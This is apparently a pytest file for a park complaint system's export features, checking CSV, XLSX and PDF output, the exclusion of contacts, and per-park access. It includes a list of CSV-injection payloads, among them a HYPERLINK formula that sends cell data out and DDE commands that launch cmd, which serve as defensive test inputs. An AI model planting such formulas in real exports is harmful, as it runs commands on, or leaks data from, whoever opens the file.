"""Exports open and hold the cases without contacts: CSV, XLSX read back, PDF text."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.services.bureau.rollups import REPORT_TZ
from tests.support.cases import add_case

CONTACT = "13912345678"
# 2026-03-10 10:00 in Beijing
T0 = datetime(2026, 3, 10, 2, 0, tzinfo=UTC)


@pytest.fixture
def cases(unit, other_unit):
    spot = unit.parks[0].spots[0]
    toilets, noise = unit.categories
    add_case(spot, toilets, T0, contact=CONTACT, body="厕所没有纸了",
             first_response_at=T0 + timedelta(minutes=20), reply_due_at=T0 + timedelta(hours=4),
             satisfaction=5, reference="RT-2026-000001")
    add_case(spot, noise, T0 + timedelta(hours=1), contact="visitor@example.org",
             body="广场舞太吵", reference="RT-2026-000002")
    add_case(other_unit.parks[0].spots[0], other_unit.categories[0], T0, contact=CONTACT,
             reference="XY-2026-000001")
    db.session.commit()


def test_csv_has_the_cases_and_no_contact(bureau_client, cases):
    response = bureau_client.get("/bureau/export.csv?month=2026-03")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    text = raw.decode("utf-8-sig")
    lines = text.strip().splitlines()
    assert len(lines) == 4  # header and three cases
    assert "RT-2026-000001" in text
    assert "XY-2026-000001" in text
    assert "厕所没有纸了" in text
    assert CONTACT not in text
    assert "visitor@example.org" not in text


def test_xlsx_reads_back_without_contacts(bureau_client, cases):
    response = bureau_client.get("/bureau/export.xlsx?month=2026-03")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    assert workbook.sheetnames == ["汇总", "2026-03-01"]  # the league table, then the cases
    rows = list(workbook["2026-03-01"].iter_rows(values_only=True))
    assert len(rows) == 4
    references = [row[0] for row in rows[1:]]
    assert references == ["RT-2026-000001", "XY-2026-000001", "RT-2026-000002"]
    first = rows[1]
    assert first[3:6] == ("厕所与保洁", "待受理", "二维码")  # labels, not codes
    assert first[6] == datetime(2026, 3, 10, 10, 0)  # a date cell, in Beijing time
    assert first[8] == datetime(2026, 3, 10, 14, 0)
    assert first[9] == "是"
    assert first[10] is None  # not resolved: an empty cell
    cells = [str(cell) for row in rows for cell in row if cell is not None]
    assert not any(CONTACT in cell or "visitor@example.org" in cell for cell in cells)


def test_xlsx_dates_show_as_the_csv_shows_them(bureau_client, cases):
    data = bureau_client.get("/bureau/export.xlsx?month=2026-03").get_data()
    sheet = load_workbook(io.BytesIO(data))["2026-03-01"]
    assert sheet["G2"].is_date
    assert sheet["G2"].number_format == "yyyy-mm-dd hh:mm"
    text = bureau_client.get("/bureau/export.csv?month=2026-03").get_data().decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][6] == "2026-03-10 10:00"


def test_exports_in_english_name_every_code_in_english(bureau_client, cases):
    text = bureau_client.get("/bureau/export.csv?month=2026-03&lang=en").get_data().decode(
        "utf-8-sig")
    header, first, *_rest = list(csv.reader(io.StringIO(text)))
    assert header[:6] == ["Reference", "Park", "Spot", "Category", "Status", "Source"]
    assert first[1:10] == ["RT Park", "North gate toilet", "Toilets", "New", "QR code",
                           "2026-03-10 10:00", "2026-03-10 10:20", "2026-03-10 14:00", "yes"]
    workbook = load_workbook(io.BytesIO(bureau_client.get(
        "/bureau/export.xlsx?month=2026-03&lang=en").get_data()))
    assert workbook.sheetnames == ["Summary", "2026-03-01"]
    assert workbook["Summary"]["A1"].value == "Rank"


def test_directors_export_only_their_parks(staff_client, unit, other_unit, cases):
    text = staff_client.get("/bureau/export.csv?month=2026-03").get_data().decode("utf-8-sig")
    assert "RT-2026-000001" in text
    assert "XY-2026-000001" not in text
    other_park = other_unit.parks[0].id
    assert staff_client.get(f"/bureau/export.csv?month=2026-03&park={other_park}"
                            ).status_code == 404


def pdf_text(data: bytes, tmp_path) -> str:
    pdftotext = shutil.which("pdftotext")
    assert pdftotext, "poppler-utils (pdftotext) is needed: scripts/system-deps.sh test"
    path = tmp_path / "report.pdf"
    path.write_bytes(data)
    return subprocess.run([pdftotext, "-layout", str(path), "-"], capture_output=True,
                          text=True, check=True).stdout


def test_monthly_report_pdf_in_chinese_with_its_figures(bureau_client, unit, cases, tmp_path):
    response = bureau_client.get("/bureau/report.pdf?month=2026-03&min=1")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    text = pdf_text(response.get_data(), tmp_path)
    assert "月度报告" in text
    assert "RT公园" in text
    assert "XY公园" in text
    assert "2026-03" in text
    assert "每月件数" in text  # the chart's title, drawn as SVG
    assert "每月一题" in text
    assert CONTACT not in text


def test_monthly_report_names_the_monthly_topic(bureau_client, unit, cases, tmp_path):
    spot = unit.parks[0].spots[0]
    for _n in range(3):
        add_case(spot, unit.categories[1], T0, body="晚上音响声音太大")
    db.session.commit()
    text = pdf_text(bureau_client.get("/bureau/report.pdf?month=2026-03").get_data(), tmp_path)
    assert "音响" in text
    assert "晚上音响声音太大" in text


def test_report_for_one_park(bureau_client, unit, cases, tmp_path):
    park = unit.parks[0]
    response = bureau_client.get(f"/bureau/report.pdf?month=2026-03&park={park.id}")
    text = pdf_text(response.get_data(), tmp_path)
    assert "RT公园" in text
    assert "XY公园" not in text


# what a visitor may write to attack whoever opens the export (OWASP, CSV injection)
FORMULAS = ['=HYPERLINK("http://x/?"&C2,"details")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def formula_cases(unit):
    spot = unit.parks[0].spots[0]
    for n, body in enumerate(FORMULAS):
        add_case(spot, unit.categories[0], T0 + timedelta(minutes=n), body=body,
                 reference=f"RT-2026-00010{n}")
    db.session.commit()


def test_xlsx_cells_are_text_never_formulas(bureau_client, formula_cases):
    import zipfile

    data = bureau_client.get("/bureau/export.xlsx?month=2026-03").get_data()
    for name in ("sheet1", "sheet2"):  # the summary, the cases
        sheet = zipfile.ZipFile(io.BytesIO(data)).read(f"xl/worksheets/{name}.xml").decode()
        assert "<f>" not in sheet
        assert "<f " not in sheet
    workbook = load_workbook(io.BytesIO(data))
    rows = list(workbook["2026-03-01"].iter_rows())[1:]
    texts = [row[-1] for row in rows]
    # the visitor's words, unchanged (XML reads a lone CR back as a line feed)
    assert [cell.value for cell in texts] == [body.replace("\r", "\n") for body in FORMULAS]
    assert all(cell.data_type == "s" for cell in texts)
    assert all(cell.quotePrefix for cell in texts)


def test_csv_cells_that_start_like_a_formula_are_neutralised(bureau_client, formula_cases):
    import csv

    raw = bureau_client.get("/bureau/export.csv?month=2026-03").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))[1:]
    assert [row[-1] for row in rows] == ["'" + body for body in FORMULAS]
    for row in rows:
        assert not row[-1].startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.fixture
def due_cases(unit):
    """In this month: one case answered in time, one unanswered past its deadline, one
    unanswered with its deadline still ahead."""
    spot, category = unit.parks[0].spots[0], unit.categories[0]
    now = datetime.now(UTC)
    local = now.astimezone(REPORT_TZ)
    created = local.replace(day=1, hour=0, minute=5, second=0, microsecond=0)
    add_case(spot, category, created, first_response_at=created + timedelta(minutes=1),
             reply_due_at=now + timedelta(hours=1), status="in_progress",
             reference="RT-DUE-ON-TIME")
    add_case(spot, category, created, reply_due_at=now - timedelta(seconds=1),
             reference="RT-DUE-OVERDUE")
    add_case(spot, category, created, reply_due_at=now + timedelta(hours=3),
             reference="RT-DUE-AHEAD")
    db.session.commit()
    return local.strftime("%Y-%m")


def today_in_city() -> str:
    return datetime.now(UTC).astimezone(REPORT_TZ).date().isoformat()


def test_a_case_not_yet_due_is_left_out_of_the_share_everywhere(bureau_client, unit, due_cases,
                                                                tmp_path):
    # 1 on time of 2 that count (the third is not due yet): 50 %, not 33 %
    start = f"{due_cases}-01"
    document = bureau_client.get(
        f"/api/v1/bureau/comparison?from={start}&to={today_in_city()}&min_cases=0").get_json()
    park = next(row for row in document["parks"] if row["park"]["id"] == unit.parks[0].id)
    assert park["within_limit_share"] == 0.5
    assert park["within_limit_counted"] == 2
    assert document["city"]["within_limit_share"] == 0.5

    page = bureau_client.get(f"/bureau/?month={due_cases}&min=0").get_data(as_text=True)
    assert "50%" in page
    assert "33%" not in page

    pdf = pdf_text(bureau_client.get(f"/bureau/report.pdf?month={due_cases}&min=0").get_data(),
                   tmp_path)
    assert "50%" in pdf
    assert "33%" not in pdf

    text = bureau_client.get(f"/bureau/export.csv?month={due_cases}").get_data().decode(
        "utf-8-sig")
    within = {row[0]: row[9] for row in csv.reader(io.StringIO(text))}
    assert within["RT-DUE-ON-TIME"] == "是"
    assert within["RT-DUE-OVERDUE"] == "否"
    assert within["RT-DUE-AHEAD"] == ""
